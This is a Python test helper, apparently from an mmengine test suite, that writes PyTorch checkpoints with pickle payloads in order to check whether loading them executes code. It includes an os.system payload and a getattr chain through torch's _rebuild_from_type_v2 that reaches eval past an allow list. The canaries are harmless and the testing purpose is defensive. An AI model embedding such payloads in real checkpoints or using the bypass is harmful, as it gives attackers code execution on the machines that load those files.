"""Checkpoints that try to run code, and the canary that shows it."""

import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2

PLACES = ('state_dict', 'meta', 'optimizer', 'message_hub')


class Call:
    """Pickles as ``function(*arguments)``."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.reduced


def shell(canary: Path) -> Call:
    """Create the canary with os.system."""
    return Call(os.system, f'touch {canary}')


def through_getattr(canary: Path) -> Call:
    """Reach ``eval`` with nothing but getattr and torch's own allow list.

    A function's ``__builtins__`` is a dict; its bound ``__getitem__`` is
    called through the helper with which torch restores tensor subclasses.
    """
    method = Call(getattr, HistoryBuffer, 'update')
    builtins = Call(getattr, method, '__builtins__')
    get = Call(getattr, builtins, '__getitem__')
    builtin_type = Call(getattr, get, '__class__')
    evaluate = Call(_rebuild_from_type_v2, get, builtin_type, ('eval',), None)
    code = f'[open({str(canary)!r}, "w").close(), len][1]'
    return Call(_rebuild_from_type_v2, evaluate, builtin_type, (code,), None)


def checkpoint() -> dict[str, Any]:
    """A harmless one with the keys of a runner's."""
    return {
        'meta': {'epoch': 1, 'iter': 2},
        'state_dict': {'weight': torch.arange(6.0).reshape(2, 3)},
        'optimizer': {'state': {}, 'param_groups': []},
        'message_hub': {'log_scalars': {}},
    }


def write(path: Path, place: str, payload: Any, **options: Any) -> Path:
    """Save a checkpoint with the payload inside one of its parts."""
    content = checkpoint()
    content[place]['payload'] = payload
    torch.save(content, path, **options)
    return path


def rename_in_pickle(path: Path, old: bytes, new: bytes) -> None:
    """Rewrite a name in a saved file's pickle, as another numpy writes it."""
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    found = 0
    with zipfile.ZipFile(path, 'w') as archive:
        for name, data in entries.items():
            if name.endswith('/data.pkl'):
                found += data.count(old)
                data = data.replace(old, new)
            archive.writestr(name, data)
    if not found:
        raise ValueError(f'{path} does not name {old!r}')
